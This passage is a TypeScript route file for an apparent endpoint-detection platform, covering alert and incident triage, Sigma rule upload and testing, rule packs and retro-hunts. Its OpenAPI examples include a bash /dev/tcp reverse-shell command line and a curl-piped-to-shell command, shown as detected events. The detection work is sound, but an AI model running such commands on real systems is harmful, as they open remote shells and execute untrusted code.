// REST routes for detection: alerts (triage), rules and rule packs (upload, validate, test, enable), retro-hunts.
// Every change is written to the audit log; rule text is validated before it is stored, packs load rule by rule.

import type { FastifyInstance } from 'fastify';
import { VigilError } from '@vigil/common';
import { sigmaLevels, type DetectEvent, type LoadProblem } from '@vigil/detect';
import type { ControlPlane } from '../control-plane/sqlite.js';
import { alertStatuses, type AlertStatus, type DetectionDb } from '../detection/detection-db.js';
import { BUILTIN_PACK, type DetectionService } from '../detection/detection-service.js';
import { AlertComments, MAX_COMMENT_CHARS } from '../detection/alert-comments.js';
import { createIncidentService, storeLineage } from '../detection/incidents.js';
import type { EventStore } from '@vigil/store';

export interface DetectionRouteDeps {
  controlPlane: ControlPlane;
  db: DetectionDb;
  detection: DetectionService;
  /** Process lineage for incident grouping. */
  store: Pick<EventStore, 'search'>;
  /** Incident window (default 30 minutes). */
  incidentWindowMs?: number;
}

const MAX_PACK_BYTES = 64 * 1024 * 1024;
const ruleText = { type: 'string', minLength: 1, maxLength: 1024 * 1024 };
const fileName = { type: 'string', minLength: 1, maxLength: 512, pattern: '^[^\\u0000]+$' };
const packName = { type: 'string', minLength: 1, maxLength: 100, pattern: '^[A-Za-z0-9][A-Za-z0-9._-]*$' };
const isoDate = { type: 'string', format: 'date-time' };
const idParams = { type: 'object', required: ['id'], properties: { id: { type: 'string', minLength: 1, maxLength: 200 } } };

// ---- OpenAPI documentation of the answers (schemas with examples; answers are never reshaped by them) ----
const exampleTime = '2026-03-01T10:00:00.000Z';
const exampleHostId = '1f0c3a52-4b1e-4c3b-9a7d-6c1e2b3a4d5f';
const nullable = (schema: Record<string, unknown>) => ({ ...schema, nullable: true });
const alertSchema = {
  type: 'object',
  required: ['id', 'ruleId', 'ruleTitle', 'level', 'kind', 'tags', 'hostId', 'firstSeen', 'lastSeen', 'count', 'eventIds', 'fields', 'status', 'createdAt', 'updatedAt'],
  additionalProperties: true,
  properties: {
    id: { type: 'string' },
    ruleId: { type: 'string', description: 'Rule id, or external:<source> for alerts pushed through the inbound API' },
    ruleTitle: { type: 'string' },
    level: { type: 'string', enum: [...sigmaLevels] },
    kind: { type: 'string', enum: ['sigma', 'correlation', 'hunt', 'external', 'ioc', 'yara', 'anomaly'] },
    tags: { type: 'array', items: { type: 'string' } },
    hostId: { type: 'string', description: "'' for an external alert about no enrolled host" },
    processKey: nullable({ type: 'string' }),
    firstSeen: isoDate,
    lastSeen: isoDate,
    count: { type: 'integer' },
    eventIds: { type: 'array', items: { type: 'string' } },
    fields: { type: 'array', items: { type: 'object', required: ['field'], properties: { field: { type: 'string' }, value: {} } } },
    group: nullable({ type: 'object', additionalProperties: true }),
    status: { type: 'string', enum: [...alertStatuses] },
    assignee: nullable({ type: 'string' }),
    createdAt: isoDate,
    updatedAt: isoDate,
  },
};
const exampleAlert = {
  id: '9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d', ruleId: 'c2b9a3f0-6d1e-4c8a-9b7f-3e2d1c0b9a8f', ruleTitle: 'Reverse shell via bash /dev/tcp', level: 'high', kind: 'sigma',
  tags: ['attack.execution'], hostId: exampleHostId, processKey: '4242', firstSeen: exampleTime, lastSeen: exampleTime, count: 1, eventIds: ['5c6d7e8f-1a2b-4c3d-9e0f-112233445566'],
  fields: [{ field: 'CommandLine', value: 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1' }], group: null, status: 'new', assignee: null, createdAt: exampleTime, updatedAt: exampleTime,
};
const commentSchema = {
  type: 'object',
  required: ['id', 'alertId', 'author', 'authorKind', 'text', 'createdAt'],
  properties: { id: { type: 'string' }, alertId: { type: 'string' }, author: { type: 'string', description: 'The user or API token that wrote it' }, authorKind: { type: 'string', enum: ['user', 'api_token'] }, text: { type: 'string' }, createdAt: isoDate },
};
const exampleComment = { id: '3e4f5a6b-7c8d-4e9f-a0b1-c2d3e4f5a6b7', alertId: exampleAlert.id, author: 'alice', authorKind: 'user', text: 'Reverse shell to 10.0.0.5 confirmed; host isolated.', createdAt: exampleTime };
const incidentSchema = {
  type: 'object',
  required: ['id', 'hostId', 'status', 'assignee', 'firstSeen', 'lastSeen', 'level', 'alertCount', 'openAlerts', 'rules', 'tags', 'alerts', 'createdAt', 'updatedAt'],
  properties: {
    id: { type: 'string' },
    hostId: { type: 'string' },
    status: { type: 'string', enum: [...alertStatuses], description: 'Set on the incident and applied to its alerts; alerts triaged one by one may differ' },
    assignee: nullable({ type: 'string' }),
    firstSeen: isoDate,
    lastSeen: isoDate,
    level: { type: 'string', enum: [...sigmaLevels], description: 'Highest level of its alerts' },
    alertCount: { type: 'integer' },
    openAlerts: { type: 'integer', description: 'Alerts not resolved or false positive' },
    rules: { type: 'array', items: { type: 'string' } },
    tags: { type: 'array', items: { type: 'string' }, description: 'ATT&CK tags of its alerts' },
    alerts: { type: 'array', items: alertSchema, description: 'Oldest first, at most 200' },
    createdAt: isoDate,
    updatedAt: isoDate,
  },
};
const exampleIncident = {
  id: '7d6c5b4a-3e2f-4a1b-9c8d-7e6f5a4b3c2d', hostId: exampleHostId, status: 'new', assignee: null, firstSeen: exampleTime, lastSeen: exampleTime, level: 'high', alertCount: 1, openAlerts: 1,
  rules: [exampleAlert.ruleTitle], tags: ['attack.execution'], alerts: [exampleAlert], createdAt: exampleTime, updatedAt: exampleTime,
};
const triageBody = { type: 'object', additionalProperties: false, minProperties: 1, properties: { status: { type: 'string', enum: [...alertStatuses] }, assignee: { type: ['string', 'null'], maxLength: 64 } } };
const problemSchema = {
  type: 'object',
  required: ['severity', 'code', 'message', 'file', 'line', 'column'],
  properties: { severity: { type: 'string', enum: ['error', 'warning'] }, code: { type: 'string' }, message: { type: 'string' }, file: { type: 'string' }, line: { type: 'integer' }, column: { type: 'integer' }, rule_id: nullable({ type: 'string' }) },
};
const exampleProblem = { severity: 'warning', code: 'unknown_modifier', message: 'modifier foo is not supported: the item is FALSE', file: 'custom/rule.yml', line: 9, column: 7, rule_id: 'c2b9a3f0-6d1e-4c8a-9b7f-3e2d1c0b9a8f' };
const ruleViewSchema = {
  type: 'object',
  required: ['id', 'title', 'kind', 'level', 'tags', 'pack', 'file', 'enabled', 'supported'],
  additionalProperties: true,
  properties: {
    id: { type: 'string' }, title: { type: 'string' }, kind: { type: 'string', enum: ['detection', 'correlation'] }, level: { type: 'string' }, status: nullable({ type: 'string' }),
    tags: { type: 'array', items: { type: 'string' } }, pack: { type: 'string' }, file: { type: 'string' }, enabled: { type: 'boolean' },
    logsource: nullable({ type: 'object', additionalProperties: { type: 'string' } }), supported: { type: 'boolean' }, description: nullable({ type: 'string' }),
  },
};
const exampleRule = {
  id: 'c2b9a3f0-6d1e-4c8a-9b7f-3e2d1c0b9a8f', title: 'Reverse shell via bash /dev/tcp', kind: 'detection', level: 'high', status: 'stable', tags: ['attack.execution'], pack: 'vigil-linux',
  file: 'process_creation/reverse_shell_bash.yml', enabled: true, logsource: { product: 'linux', category: 'process_creation' }, supported: true, description: 'Bash redirecting a shell to a TCP socket.',
};
const exampleRuleText = 'title: Curl piped to shell\nid: 8d1c2b3a-4e5f-4a6b-9c7d-0e1f2a3b4c5d\nstatus: experimental\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  selection:\n    CommandLine|contains: "| sh"\n  condition: selection\nlevel: medium\n';
const ruleRefs = { type: 'array', items: { type: 'object', required: ['id', 'title'], properties: { id: { type: 'string' }, title: { type: 'string' } } } };
const deletedSchema = (example: string) => ({ description: 'Deleted', type: 'object', required: ['deleted'], properties: { deleted: { type: 'string' } }, examples: [{ deleted: example }] });

function problemView(problem: LoadProblem) {
  return { severity: problem.severity, code: problem.code, message: problem.message, file: problem.location.file, line: problem.location.line, column: problem.location.column, rule_id: problem.ruleId ?? null };
}

function safeFile(file: string): string {
  const normalised = file.replace(/\\/g, '/').replace(/^\/+/, '');
  if (normalised.split('/').some((part) => part === '..' || part === '')) throw new VigilError('invalid_input', `rule file name ${JSON.stringify(file)} is not a relative path`, { location: { path: 'file' } });
  return normalised;
}

export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRouteDeps): void {
  const { controlPlane, db, detection } = deps;
  const actor = (request: { principal?: { name: string } }) => request.principal?.name ?? 'unknown';
  const comments = new AlertComments(db);
  const incidents = createIncidentService({ db, lineage: storeLineage(deps.store), ...(deps.incidentWindowMs ? { windowMs: deps.incidentWindowMs } : {}) });

  // ---- alerts ----
  app.get(
    '/api/v1/alerts',
    {
      config: { permission: 'alerts:read' },
      schema: {
        tags: ['alerts'],
        summary: 'List alerts, newest activity first', description: 'Alerts from detection rules, correlations and third-party platforms (kind external), filtered by host, rule, status, level and time.', response: { 200: { description: 'Alerts', type: 'array', items: alertSchema, examples: [[exampleAlert]] } },
        querystring: {
          type: 'object',
          additionalProperties: false,
          properties: {
            host_id: { type: 'string', maxLength: 200 },
            rule_id: { type: 'string', maxLength: 200 },
            status: { type: 'string', enum: [...alertStatuses] },
            level: { type: 'string', enum: [...sigmaLevels] },
            since: isoDate,
            limit: { type: 'integer', minimum: 1, maximum: 10000, default: 100 },
          },
        },
      },
    },
    async (request) => {
      const q = request.query as { host_id?: string; rule_id?: string; status?: AlertStatus; level?: (typeof sigmaLevels)[number]; since?: string; limit?: number };
      return db.listAlerts({
        ...(q.host_id ? { hostId: q.host_id } : {}),
        ...(q.rule_id ? { ruleId: q.rule_id } : {}),
        ...(q.status ? { status: q.status } : {}),
        ...(q.level ? { level: q.level } : {}),
        ...(q.since ? { since: q.since } : {}),
        ...(q.limit ? { limit: q.limit } : {}),
      });
    },
  );

  app.get('/api/v1/alerts/summary', { config: { permission: 'alerts:read' }, schema: { tags: ['alerts'], summary: 'Alert counts by level and status', description: 'Number of alerts per level and status, for dashboards.', response: { 200: { description: 'Counts', type: 'array', items: { type: 'object', required: ['level', 'status', 'count'], properties: { level: { type: 'string' }, status: { type: 'string' }, count: { type: 'integer' } } }, examples: [[{ level: 'high', status: 'new', count: 3 }]] } } } }, async () => db.alertCounts());

  app.get('/api/v1/alerts/:id', { config: { permission: 'alerts:read' }, schema: { tags: ['alerts'], summary: 'One alert', description: 'One alert by id, with its rule, host, matched fields and event ids.', response: { 200: { description: 'The alert', ...alertSchema, examples: [exampleAlert] } }, params: idParams } }, async (request) => {
    const alert = db.getAlert((request.params as { id: string }).id);
    if (!alert) throw new VigilError('not_found', 'no such alert');
    return alert;
  });

  app.patch(
    '/api/v1/alerts/:id',
    {
      config: { permission: 'alerts:manage' },
      schema: {
        tags: ['alerts'],
        summary: 'Triage an alert: status and assignee', description: 'Sets the status (new, acknowledged, in_progress, resolved, false_positive) and the assignee of an alert; written to the audit log.', response: { 200: { description: 'The updated alert', ...alertSchema, examples: [{ ...exampleAlert, status: 'acknowledged', assignee: 'analyst1' }] } },
        params: idParams,
        body: { ...triageBody, examples: [{ status: 'in_progress', assignee: 'alice' }] },
      },
    },
    async (request) => {
      const { id } = request.params as { id: string };
      const body = request.body as { status?: AlertStatus; assignee?: string | null };
      const updated = db.updateAlert(id, body);
      controlPlane.audit(actor(request), 'alert.update', id, 'success', body);
      return updated;
    },
  );

  app.get(
    '/api/v1/alerts/:id/comments',
    { config: { permission: 'alerts:read' }, schema: { tags: ['alerts'], summary: "An alert's comments, oldest first", description: 'Comments analysts wrote on the alert, with author and time.', response: { 200: { description: 'Comments', type: 'array', items: commentSchema, examples: [[exampleComment]] } }, params: idParams } },
    async (request) => comments.list((request.params as { id: string }).id),
  );

  app.post(
    '/api/v1/alerts/:id/comments',
    {
      config: { permission: 'alerts:manage' },
      schema: {
        tags: ['alerts'],
        summary: 'Comment on an alert',
        description: 'Adds a comment to the alert; the author is the signed-in user or API token and the time is the server\'s. Written to the audit log.',
        response: { 201: { description: 'The stored comment', ...commentSchema, examples: [exampleComment] } },
        params: idParams,
        body: { type: 'object', required: ['text'], additionalProperties: false, properties: { text: { type: 'string', minLength: 1, maxLength: MAX_COMMENT_CHARS, pattern: '\\S' } }, examples: [{ text: exampleComment.text }] },
      },
    },
    async (request, reply) => {
      const { id } = request.params as { id: string };
      const principal = request.principal;
      const comment = comments.add(id, { name: principal?.name ?? 'unknown', kind: principal?.kind ?? 'user' }, (request.body as { text: string }).text);
      controlPlane.audit(actor(request), 'alert.comment', id, 'success', { comment: comment.id, chars: comment.text.length });
      return reply.status(201).send(comment);
    },
  );

  // ---- incidents ----
  app.get(
    '/api/v1/incidents',
    {
      config: { permission: 'alerts:read' },
      schema: {
        tags: ['alerts'],
        summary: 'List incidents, newest activity first',
        description: 'Incidents group alerts of the same host whose acting processes share a process tree (an ancestor process entity id) within a time window (default 30 minutes). Filtered by status (open: new, acknowledged or in progress) and host.',
        response: { 200: { description: 'Incidents', type: 'array', items: incidentSchema, examples: [[exampleIncident]] } },
        querystring: {
          type: 'object',
          additionalProperties: false,
          properties: { status: { type: 'string', enum: ['open', ...alertStatuses] }, host_id: { type: 'string', maxLength: 200 }, limit: { type: 'integer', minimum: 1, maximum: 2000, default: 100 } },
        },
      },
    },
    async (request) => {
      const q = request.query as { status?: AlertStatus | 'open'; host_id?: string; limit?: number };
      return incidents.list({ ...(q.status ? { status: q.status } : {}), ...(q.host_id ? { hostId: q.host_id } : {}), ...(q.limit ? { limit: q.limit } : {}) });
    },
  );

  app.get(
    '/api/v1/incidents/:id',
    { config: { permission: 'alerts:read' }, schema: { tags: ['alerts'], summary: 'One incident with its alerts', description: 'One incident by id, with its alerts oldest first.', response: { 200: { description: 'The incident', ...incidentSchema, examples: [exampleIncident] } }, params: idParams } },
    async (request) => incidents.get((request.params as { id: string }).id),
  );

  app.patch(
    '/api/v1/incidents/:id',
    {
      config: { permission: 'alerts:manage' },
      schema: {
        tags: ['alerts'],
        summary: 'Triage an incident: status and assignee of it and all its alerts',
        description: 'Sets the status and/or assignee of the incident and of every alert in it, in one transaction; written to the audit log.',
        response: { 200: { description: 'The updated incident', ...incidentSchema, examples: [{ ...exampleIncident, status: 'in_progress', assignee: 'alice', alerts: [{ ...exampleAlert, status: 'in_progress', assignee: 'alice' }] }] } },
        params: idParams,
        body: { ...triageBody, examples: [{ status: 'in_progress', assignee: 'alice' }] },
      },
    },
    async (request) => {
      const { id } = request.params as { id: string };
      const body = request.body as { status?: AlertStatus; assignee?: string | null };
      const updated = await incidents.update(id, body);
      controlPlane.audit(actor(request), 'incident.update', id, 'success', { ...body, alerts: updated.alertCount });
      return updated;
    },
  );

  // ---- rules ----
  app.get(
    '/api/v1/rules',
    {
      config: { permission: 'rules:read' },
      schema: {
        tags: ['rules'],
        summary: 'List loaded rules (detection and correlation)', description: 'Loaded rules with pack, file, state and logsource support, filtered by text, pack and enabled state.', response: { 200: { description: 'Rules', type: 'object', required: ['total', 'rules'], properties: { total: { type: 'integer' }, rules: { type: 'array', items: ruleViewSchema } }, examples: [{ total: 1, rules: [exampleRule] }] } },
        querystring: {
          type: 'object',
          additionalProperties: false,
          properties: { q: { type: 'string', maxLength: 200 }, pack: { type: 'string', maxLength: 100 }, enabled: { type: 'boolean' }, limit: { type: 'integer', minimum: 1, maximum: 10000, default: 1000 } },
        },
      },
    },
    async (request) => {
      const q = request.query as { q?: string; pack?: string; enabled?: boolean; limit?: number };
      const needle = q.q?.toLowerCase();
      const rules = detection
        .rules()
        .filter((r) => (q.pack ? r.pack === q.pack : true) && (q.enabled === undefined ? true : r.enabled === q.enabled))
        .filter((r) => (needle ? `${r.id} ${r.title} ${r.tags.join(' ')} ${r.file}`.toLowerCase().includes(needle) : true));
      return { total: rules.length, rules: rules.slice(0, q.limit ?? 1000) };
    },
  );

  app.get('/api/v1/rules/load-report', { config: { permission: 'rules:read' }, schema: { tags: ['rules'], summary: 'Problems found when the rules were last loaded', description: 'Counts of files, rules and correlations of the last load, with every error and warning located by file, line and column.', response: { 200: { description: 'Load report', type: 'object', required: ['files', 'rules', 'correlations', 'errors', 'warnings', 'problems'], additionalProperties: true, properties: { files: { type: 'integer' }, rules: { type: 'integer' }, correlations: { type: 'integer' }, deprecated: { type: 'integer' }, unsupported: { type: 'integer' }, errors: { type: 'integer' }, warnings: { type: 'integer' }, problems: { type: 'array', items: problemSchema } }, examples: [{ files: 40, rules: 38, correlations: 2, deprecated: 0, unsupported: 1, errors: 0, warnings: 1, problems: [exampleProblem] }] } } } }, async () => {
    const report = detection.lastLoad();
    return { ...report, problems: report.problems.map(problemView) };
  });

  app.get('/api/v1/rules/:id', { config: { permission: 'rules:read' }, schema: { tags: ['rules'], summary: 'One rule with its source text', description: 'One loaded rule by id, with the YAML text of its file.', response: { 200: { description: 'The rule', ...ruleViewSchema, required: [...ruleViewSchema.required, 'text'], properties: { ...ruleViewSchema.properties, text: { type: 'string' } }, examples: [{ ...exampleRule, text: exampleRuleText }] } }, params: idParams } }, async (request) => {
    const rule = detection.rule((request.params as { id: string }).id);
    if (!rule) throw new VigilError('not_found', 'no such rule');
    return { ...rule.view, text: rule.text };
  });

  app.post(
    '/api/v1/rules/validate',
    { config: { permission: 'rules:read' }, schema: { tags: ['rules'], summary: 'Validate rule text without storing it', description: 'Compiles Sigma rule text and reports its rules and every problem, without storing anything.', response: { 200: { description: 'Validation result', type: 'object', required: ['valid', 'rules', 'problems'], properties: { valid: { type: 'boolean' }, rules: ruleRefs, problems: { type: 'array', items: problemSchema } }, examples: [{ valid: true, rules: [{ id: '8d1c2b3a-4e5f-4a6b-9c7d-0e1f2a3b4c5d', title: 'Curl piped to shell' }], problems: [] }] } }, body: { type: 'object', required: ['text'], additionalProperties: false, properties: { text: ruleText }, examples: [{ text: exampleRuleText }] } } },
    async (request) => {
      const result = detection.testRule((request.body as { text: string }).text, []);
      return { valid: !result.problems.some((p) => p.severity === 'error') && result.rules.length > 0, rules: result.rules.map((r) => ({ id: r.id, title: r.title })), problems: result.problems.map(problemView) };
    },
  );

  app.post(
    '/api/v1/rules/test',
    {
      config: { permission: 'rules:read' },
      schema: {
        tags: ['rules'],
        summary: 'Test rule text against posted sample events', description: 'Compiles Sigma rule text and evaluates it on the posted events (flat Vigil events); reports the matching events by index with the fields that matched.', response: { 200: { description: 'Matches per rule', type: 'object', required: ['problems', 'rules'], properties: { problems: { type: 'array', items: problemSchema }, rules: { type: 'array', items: { type: 'object', required: ['id', 'title', 'matches'], properties: { id: { type: 'string' }, title: { type: 'string' }, matches: { type: 'array', items: { type: 'object', required: ['index'], properties: { index: { type: 'integer' }, eventId: {}, fields: { type: 'array', items: { type: 'object', additionalProperties: true } } } } } } } } }, examples: [{ problems: [], rules: [{ id: '8d1c2b3a-4e5f-4a6b-9c7d-0e1f2a3b4c5d', title: 'Curl piped to shell', matches: [{ index: 0, eventId: '5c6d7e8f-1a2b-4c3d-9e0f-112233445566', fields: [{ field: 'CommandLine', value: 'curl -s https://x.example | sh' }] }] }] }] } },
        body: { type: 'object', required: ['text', 'events'], additionalProperties: false, properties: { text: ruleText, events: { type: 'array', maxItems: 10000, items: { type: 'object' } } }, examples: [{ text: exampleRuleText, events: [{ 'event.category': 'process', 'event.id': '5c6d7e8f-1a2b-4c3d-9e0f-112233445566', 'process.command_line': 'curl -s https://x.example | sh' }] }] },
      },
    },
    async (request) => {
      const { text, events } = request.body as { text: string; events: DetectEvent[] };
      const result = detection.testRule(text, events);
      return { problems: result.problems.map(problemView), rules: result.rules };
    },
  );

  app.post(
    '/api/v1/rules',
    {
      config: { permission: 'rules:manage' },
      schema: {
        tags: ['rules'],
        summary: 'Add or replace a rule file (refused with located errors when it does not compile)', description: 'Stores a rule file in a pack (default custom) and reloads the rules. Text that does not compile is refused with every error located by line and column. The built-in pack cannot be changed.', response: { 201: { description: 'Stored and loaded', type: 'object', required: ['pack', 'file', 'rules', 'problems', 'loaded'], properties: { pack: { type: 'string' }, file: { type: 'string' }, rules: ruleRefs, problems: { type: 'array', items: problemSchema }, loaded: { type: 'integer', description: 'Rules loaded in total after the reload' } }, examples: [{ pack: 'custom', file: 'curl-pipe-sh.yml', rules: [{ id: '8d1c2b3a-4e5f-4a6b-9c7d-0e1f2a3b4c5d', title: 'Curl piped to shell' }], problems: [], loaded: 39 }] } },
        body: { type: 'object', required: ['text'], additionalProperties: false, properties: { text: ruleText, file: fileName, pack: packName }, examples: [{ text: exampleRuleText, file: 'curl-pipe-sh.yml', pack: 'custom' }] },
      },
    },
    async (request, reply) => {
      const body = request.body as { text: string; file?: string; pack?: string };
      const pack = body.pack ?? 'custom';
      if (pack === BUILTIN_PACK) throw new VigilError('forbidden', `the ${BUILTIN_PACK} pack is shipped with Vigil; add rules to another pack`);
      const check = detection.testRule(body.text, []);
      const errors = check.problems.filter((p) => p.severity === 'error');
      if (errors.length || !check.rules.length) {
        throw new VigilError('invalid_input', errors.length ? `rule does not compile: ${errors[0]!.message}` : 'the text holds no detection rule', {
          location: errors[0] ? { line: errors[0].location.line, column: errors[0].location.column } : { path: 'text' },
          details: errors.map((p) => ({ message: `${p.code}: ${p.message}`, location: { line: p.location.line, column: p.location.column } })),
        });
      }
      const file = safeFile(body.file ?? `${check.rules[0]!.id}.yml`);
      db.putRuleFile(pack, file, body.text, actor(request));
      const report = detection.reload();
      controlPlane.audit(actor(request), 'rule.put', `${pack}/${file}`, 'success', { rules: check.rules.map((r) => r.id) });
      return reply.status(201).send({ pack, file, rules: check.rules.map((r) => ({ id: r.id, title: r.title })), problems: check.problems.map(problemView), loaded: report.rules });
    },
  );

  app.patch(
    '/api/v1/rules/:id',
    {
      config: { permission: 'rules:manage' },
      schema: { tags: ['rules'], summary: 'Enable or disable a rule', description: 'Enables or disables one rule (kept across restarts and pack updates) and reloads the rules.', response: { 200: { description: 'The rule', ...ruleViewSchema, examples: [{ ...exampleRule, enabled: false }] } }, params: idParams, body: { type: 'object', required: ['enabled'], additionalProperties: false, properties: { enabled: { type: 'boolean' } }, examples: [{ enabled: false }] } },
    },
    async (request) => {
      const { id } = request.params as { id: string };
      const { enabled } = request.body as { enabled: boolean };
      if (!detection.rule(id)) throw new VigilError('not_found', 'no such rule');
      db.setRuleEnabled(id, enabled, actor(request));
      detection.reload();
      controlPlane.audit(actor(request), enabled ? 'rule.enable' : 'rule.disable', id, 'success');
      return detection.rule(id)!.view;
    },
  );

  app.delete('/api/v1/rules/:id', { config: { permission: 'rules:manage' }, schema: { tags: ['rules'], summary: 'Delete the rule file holding a rule', description: 'Deletes the file that holds the rule (with any other rules in it) and reloads. Rules of the built-in pack can only be disabled.', response: { 200: deletedSchema('custom/curl-pipe-sh.yml') }, params: idParams } }, async (request) => {
    const { id } = request.params as { id: string };
    const rule = detection.rule(id);
    if (!rule) throw new VigilError('not_found', 'no such rule');
    if (rule.view.pack === BUILTIN_PACK) throw new VigilError('forbidden', `rules of the ${BUILTIN_PACK} pack cannot be deleted; disable them instead`);
    db.deleteRuleFile(rule.view.pack, rule.view.file);
    detection.reload();
    controlPlane.audit(actor(request), 'rule.delete', `${rule.view.pack}/${rule.view.file}`, 'success', { rule: id });
    return { deleted: `${rule.view.pack}/${rule.view.file}` };
  });

  // ---- packs ----
  app.get('/api/v1/rule-packs', { config: { permission: 'rules:read' }, schema: { tags: ['rules'], summary: 'Installed rule packs with versions', description: 'Rule packs with version, import time and number of files.', response: { 200: { description: 'Packs', type: 'array', items: { type: 'object', required: ['name', 'version', 'description', 'importedAt', 'importedBy', 'files'], properties: { name: { type: 'string' }, version: { type: 'string' }, description: { type: 'string' }, importedAt: isoDate, importedBy: { type: 'string' }, files: { type: 'integer' } } }, examples: [[{ name: 'vigil-linux', version: '3c9a1b2d4e5f', description: "Vigil's own Linux rules (content/rules/linux)", importedAt: exampleTime, importedBy: 'system', files: 40 }]] } } } }, async () => db.listPacks());

  app.put(
    '/api/v1/rule-packs/:name',
    {
      bodyLimit: MAX_PACK_BYTES,
      config: { permission: 'rules:manage' },
      schema: {
        tags: ['rules'],
        summary: 'Install or replace a rule pack; rules that do not compile are reported and skipped, the rest load', description: 'Replaces every file of the pack atomically and reloads. One bad rule never blocks the others: it is reported (first 5000 problems) and skipped.', response: { 200: { description: 'Pack installed', type: 'object', required: ['pack', 'version', 'files', 'rules_loaded', 'errors', 'warnings', 'problems'], properties: { pack: { type: 'string' }, version: { type: 'string' }, files: { type: 'integer' }, rules_loaded: { type: 'integer' }, errors: { type: 'integer' }, warnings: { type: 'integer' }, problems: { type: 'array', items: problemSchema } }, examples: [{ pack: 'sigma-core', version: 'r2026-02-01', files: 2, rules_loaded: 2, errors: 0, warnings: 0, problems: [] }] } },
        params: { type: 'object', required: ['name'], properties: { name: packName } },
        body: {
          type: 'object',
          required: ['version', 'files'],
          additionalProperties: false,
          properties: {
            version: { type: 'string', minLength: 1, maxLength: 64 },
            description: { type: 'string', maxLength: 1000 },
            files: { type: 'array', maxItems: 20000, items: { type: 'object', required: ['file', 'text'], additionalProperties: false, properties: { file: fileName, text: { type: 'string', maxLength: 1024 * 1024 } } } },
          },
          examples: [{ version: 'r2026-02-01', description: 'SigmaHQ core Linux rules', files: [{ file: 'curl-pipe-sh.yml', text: exampleRuleText }] }],
        },
      },
    },
    async (request) => {
      const { name } = request.params as { name: string };
      if (name === BUILTIN_PACK) throw new VigilError('forbidden', `the ${BUILTIN_PACK} pack is shipped with Vigil and updated with it`);
      const body = request.body as { version: string; description?: string; files: { file: string; text: string }[] };
      const files = body.files.map((f) => ({ file: safeFile(f.file), text: f.text }));
      if (new Set(files.map((f) => f.file)).size !== files.length) throw new VigilError('invalid_input', 'a file name appears twice in the pack', { location: { path: 'files' } });
      db.replacePack({ name, version: body.version, description: body.description ?? '' }, files, actor(request));
      const report = detection.reload();
      const own = report.problems.filter((p) => p.location.file.startsWith(`${name}/`));
      controlPlane.audit(actor(request), 'rule_pack.put', name, 'success', { version: body.version, files: files.length });
      return {
        pack: name,
        version: body.version,
        files: files.length,
        rules_loaded: detection.rules().filter((r) => r.pack === name).length,
        errors: own.filter((p) => p.severity === 'error').length,
        warnings: own.filter((p) => p.severity === 'warning').length,
        problems: own.slice(0, 5000).map(problemView),
      };
    },
  );

  app.delete(
    '/api/v1/rule-packs/:name',
    { config: { permission: 'rules:manage' }, schema: { tags: ['rules'], summary: 'Remove a rule pack', description: 'Removes a pack with all its files and reloads. The built-in pack cannot be removed.', response: { 200: deletedSchema('sigma-core') }, params: { type: 'object', required: ['name'], properties: { name: packName } } } },
    async (request) => {
      const { name } = request.params as { name: string };
      if (name === BUILTIN_PACK) throw new VigilError('forbidden', `the ${BUILTIN_PACK} pack cannot be removed; disable its rules instead`);
      if (!db.deletePack(name)) throw new VigilError('not_found', `no rule pack ${name}`);
      detection.reload();
      controlPlane.audit(actor(request), 'rule_pack.delete', name, 'success');
      return { deleted: name };
    },
  );

  // ---- retro-hunt and metrics ----
  app.post(
    '/api/v1/rules/retro-hunt',
    {
      config: { permission: 'events:read' },
      schema: {
        tags: ['rules'],
        summary: 'Run rules (by id, by pack, or posted text) over stored events in a time range', description: 'Compiles the rules to SQL and runs them over stored events (optionally of some hosts and a time range); returns the matching events, at most limit.', response: { 200: { description: 'Matches', type: 'object', required: ['rules', 'matches', 'problems'], properties: { rules: { type: 'integer' }, matches: { type: 'array', items: { type: 'object', required: ['ruleId', 'ruleTitle', 'eventId', 'hostId', 'time', 'category'], properties: { ruleId: { type: 'string' }, ruleTitle: { type: 'string' }, eventId: { type: 'string' }, hostId: { type: 'string' }, time: { type: 'string' }, category: { type: 'string' } } } }, problems: { type: 'array', items: problemSchema } }, examples: [{ rules: 1, matches: [{ ruleId: '8d1c2b3a-4e5f-4a6b-9c7d-0e1f2a3b4c5d', ruleTitle: 'Curl piped to shell', eventId: '5c6d7e8f-1a2b-4c3d-9e0f-112233445566', hostId: exampleHostId, time: exampleTime, category: 'process' }], problems: [] }] } },
        body: {
          type: 'object',
          additionalProperties: false,
          properties: {
            rule_ids: { type: 'array', maxItems: 10000, items: { type: 'string', maxLength: 200 } },
            pack: { type: 'string', maxLength: 100 },
            text: ruleText,
            start: isoDate,
            end: isoDate,
            host_ids: { type: 'array', maxItems: 10000, items: { type: 'string', maxLength: 200 } },
            limit: { type: 'integer', minimum: 1, maximum: 100000, default: 10000 },
          },
          examples: [{ pack: 'custom', start: '2026-02-22T00:00:00Z', end: '2026-03-01T00:00:00Z', limit: 1000 }],
        },
      },
    },
    async (request) => {
      const body = request.body as { rule_ids?: string[]; pack?: string; text?: string; start?: string; end?: string; host_ids?: string[]; limit?: number };
      if (!body.rule_ids && !body.pack && body.text === undefined) throw new VigilError('invalid_input', 'give rule_ids, pack or text', { location: { path: '$' } });
      const result = await detection.retroHunt({
        ...(body.rule_ids ? { ruleIds: body.rule_ids } : {}),
        ...(body.pack ? { pack: body.pack } : {}),
        ...(body.text !== undefined ? { text: body.text } : {}),
        ...(body.start ? { start: body.start } : {}),
        ...(body.end ? { end: body.end } : {}),
        ...(body.host_ids ? { hostIds: body.host_ids } : {}),
        ...(body.limit ? { limit: body.limit } : {}),
      });
      controlPlane.audit(actor(request), 'rule.retro_hunt', body.pack ?? body.rule_ids?.join(',') ?? 'posted rule', 'success', { matches: result.matches.length });
      return { rules: result.rules, matches: result.matches, problems: result.problems.map(problemView) };
    },
  );

  app.post(
    '/api/v1/metrics/detection/reset',
    {
      config: { permission: 'rules:manage' },
      schema: {
        tags: ['system'],
        summary: 'Start a new alert latency window',
        description: 'Clears the window of alert latencies behind the p50/p99 figures of GET /api/v1/metrics/detection (for example after a warm-up); counters and the Prometheus histogram keep counting.',
        response: { 200: { description: 'Window cleared', type: 'object', required: ['reset'], properties: { reset: { type: 'boolean' } }, examples: [{ reset: true }] } },
      },
    },
    async () => {
      detection.resetLatencyWindow();
      return { reset: true };
    },
  );

